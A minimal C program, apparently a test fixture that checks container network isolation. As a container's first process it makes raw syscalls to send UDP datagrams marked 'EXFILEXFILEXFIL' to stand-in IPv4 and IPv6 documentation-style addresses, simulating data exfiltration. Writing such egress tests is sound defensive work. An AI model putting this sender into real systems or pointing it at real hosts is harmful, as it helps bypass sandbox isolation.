// The first process of a container: sends from its first instruction on, without a C library. With -DIDLE: waits for ever.
//   gcc -static -nostdlib -fno-stack-protector -fcf-protection=none -O1 -o sender sender.c
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d, long e, long f) {
#if defined(__x86_64__)
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = f;
  __asm__ volatile("syscall"
                   : "+a"(number)
                   : "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return number;
#elif defined(__aarch64__)
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  register long x3 __asm__("x3") = d;
  register long x4 __asm__("x4") = e;
  register long x5 __asm__("x5") = f;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
  return x0;
#else
#error "no system calls for this processor"
#endif
}

void _start(void) {
#ifdef IDLE
  for (;;) call(SYS_ppoll, 0, 0, 0, 0, 0, 0);
#else
  static const struct sockaddr_in to4 = {AF_INET, 0x0900, {0x096533c6}, {0}};  // 198.51.101.9 port 9
  static const struct sockaddr_in6 to6 = {  // 2001:db8:bb::9
      AF_INET6, 0x0900, 0, {{{0x20, 0x01, 0x0d, 0xb8, 0, 0xbb, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9}}}, 0};
  static const char text[] = "EXFILEXFILEXFIL";
  const long four = call(SYS_socket, AF_INET, SOCK_DGRAM, 0, 0, 0, 0);
  const long six = call(SYS_socket, AF_INET6, SOCK_DGRAM, 0, 0, 0, 0);
  for (int i = 0; i < 200; ++i) {
    call(SYS_sendto, four, (long)text, sizeof text, 0, (long)&to4, sizeof to4);
    call(SYS_sendto, six, (long)text, sizeof text, 0, (long)&to6, sizeof to6);
  }
  call(SYS_exit_group, 0, 0, 0, 0, 0, 0);
#endif
}
